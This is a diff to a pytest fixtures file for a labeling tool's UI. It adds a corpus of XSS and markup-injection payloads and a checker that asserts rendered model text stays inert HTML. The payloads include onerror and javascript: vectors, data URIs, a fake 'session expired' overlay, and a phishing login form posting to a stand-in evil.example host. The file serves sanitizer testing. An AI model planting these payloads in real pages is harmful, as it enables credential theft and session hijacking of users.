@@ -1,15 +1,77 @@
-"""Fixtures for the ui tests: a label store with accounts and queued pairs, preference rows, round files.
+"""Fixtures for the ui tests: a label store with accounts and queued pairs, preference rows, round files,
+and the markup payloads model text must never turn into live HTML (`markup_payloads`).
 
 `round_files` writes what the committee's evaluation stage will write (shapes documented in
 ui/compare_tab.py): round_1/eval/leaderboard.json, round_1/eval/samples.jsonl, round_1/plots/*.png.
 """
 import json
+import re
+from html.parser import HTMLParser
 
 import pytest
 
 from afm_align.schema import GRADE_DIMENSIONS
 
 XSS = "It is 5. <script>window.__pwned = 1</script><img src=x onerror=\"window.__pwned = 2\">"
+EVIL = "http://evil.example"     # a host no request may go to; "pwn" marks every element a payload would make
+OVERLAY = ('<div class="pwn-overlay" style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
+           'z-index:99999;background:rgba(200,0,0,.35)">session expired</div>')
+LOGIN_FORM = (f'<form class="pwn-form" action="{EVIL}/steal" method="post"><p>Your session expired.</p>'
+              '<input name="pwn-password" type="password" placeholder="password">'
+              '<button type="submit">log in again</button></form>')
+# The three ways issue 17 found past the old regex escaper, as they were reported.
+ISSUE_PAYLOADS = {
+    "escaped backtick read as a code span": f'Note \\`<img class="pwn-img" src="{EVIL}/beacon.png">`',
+    "fenced block followed by a tag": f"```\ncode\n```{OVERLAY}",
+    "fence with a backtick in its info string": f"```x`y\n{LOGIN_FORM}\n```",
+}
+XSS_PAYLOADS = [
+    f"```x`y\n{OVERLAY}\n```",       # the info-string route again, carrying the overlay
+    '<img src=x onerror="window.__pwned=1;alert(1)">',
+    f'<img class="pwn" src="{EVIL}/pixel.gif">',
+    "<svg onload=alert(1)><circle r=10></circle></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    f'<iframe class="pwn" src="{EVIL}/frame"></iframe>',
+    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    LOGIN_FORM,
+    OVERLAY,
+    "<style>body{display:none} .pwn{position:fixed}</style>",
+    "[click me](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[entity](&#106;avascript:alert(1))",
+    '<a href="javascript:alert(1)">x</a>',
+    f"![pixel]({EVIL}/md-pixel.png)",
+    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
+    f'<base href="{EVIL}/">',
+    f'<link rel="stylesheet" href="{EVIL}/x.css">',
+    "````\n```\n<img src=x onerror=alert(1)>\n```\n````\n<img src=y onerror=alert(2)>",
+    "~~~\ncode\n~~~<img src=x onerror=alert(1)>",
+    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
+    "<scr<script>ipt>alert(1)</script>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    '<img src="x"\nonerror=alert(1)>',
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/y.swf">',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    f"<{EVIL}/autolink> <javascript:alert(1)>",
+    "<!-- x --><img src=x onerror=alert(1)><!-- y -->",
+    "`a`<img src=x onerror=alert(1)>`b`",
+    "<input autofocus onfocus=alert(1)>",
+    f'<button formaction="{EVIL}/go">go</button><textarea>t</textarea><select><option>o</select>',
+    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+    "[a][r]\n\n[r]: javascript:alert(1)",
+    '| a | b |\n|---|---|\n| <span style="position:absolute">x</span> | <img src=x onerror=alert(1)> |',
+    "<table style=\"position:absolute;top:0\"><tr><td onclick=alert(1)>x</td></tr></table>",
+    '<a href="http://evil.example/login" target="_blank">log in again</a>',
+    "<p style=\"background:url(javascript:alert(1))\">css</p>",
+    "> quote <img src=x onerror=alert(1)>\n\n- item <svg/onload=alert(1)>\n\n"
+    "1. `ok` **bold** <b onmouseover=alert(1)>b</b>",
+    "\\`<iframe src=javascript:alert(1)>`",
+    "${alert(1)} ${window.__pwned=3} {{constructor.constructor('alert(1)')()}} `${alert(2)}`",   # template syntax
+]
 
 
 def make_pairs(n: int, prefix: str = "p") -> list[dict]:
@@ -18,6 +80,52 @@ def make_pairs(n: int, prefix: str = "p") -> list[dict]:
              "response_a": f"The answer is **{i + 2}**.\n\n```python\nprint({i} + 2)\n```",
              "response_b": XSS if i == 0 else f"It is {i + 3}.", "member_a": "m1", "member_b": "m2",
              "domain": "math"} for i in range(n)]
+
+
+FORBIDDEN = ["<form", "<input", "<img", "<iframe", "<svg", "<style", "<meta", "<base", "<script", "<a ", "<link",
+             "<object", "<embed", "<video", "<audio", "<source", "<button", "<textarea", "<select", "<details",
+             "<math", "<noscript", "<div", "<span"]
+
+
+class _Tags(HTMLParser):
+    """Every (tag, attributes) of an HTML fragment."""
+
+    def __init__(self, text):
+        super().__init__(convert_charrefs=True)
+        self.tags = []
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    handle_startendtag = handle_starttag
+
+
+def assert_inert_html(out: str, what: str):
+    """No tag outside ui.security.ALLOWED_TAGS, no attribute but <ol start>, none of FORBIDDEN."""
+    from ui.security import ALLOWED_TAGS
+
+    low = out.lower()
+    found = [f for f in FORBIDDEN if f in low]
+    assert not found, f"{what}: {found} in {out!r}"
+    for tag, attrs in _Tags(out).tags:
+        assert tag in ALLOWED_TAGS, f"{what}: <{tag}> in {out!r}"
+        for name, value in attrs.items():
+            assert (tag, name) == ("ol", "start") and re.fullmatch(r"\d+", value or ""), \
+                f"{what}: attribute {name}={value!r} on <{tag}> in {out!r}"   # no style=, on*=, href, src, class
+    # javascript: may only remain as visible text, never inside a tag
+    assert not re.search(r"<[^>]*javascript:", low), f"{what}: javascript: inside a tag in {out!r}"
+
+
+@pytest.fixture
+def assert_inert():
+    return assert_inert_html
+
+
+@pytest.fixture
+def markup_payloads() -> dict[str, str]:
+    """Every payload by name: the three of issue 17, then the general corpus."""
+    return {**ISSUE_PAYLOADS, **{f"corpus {i}": p for i, p in enumerate(XSS_PAYLOADS)}}
 
 
 @pytest.fixture
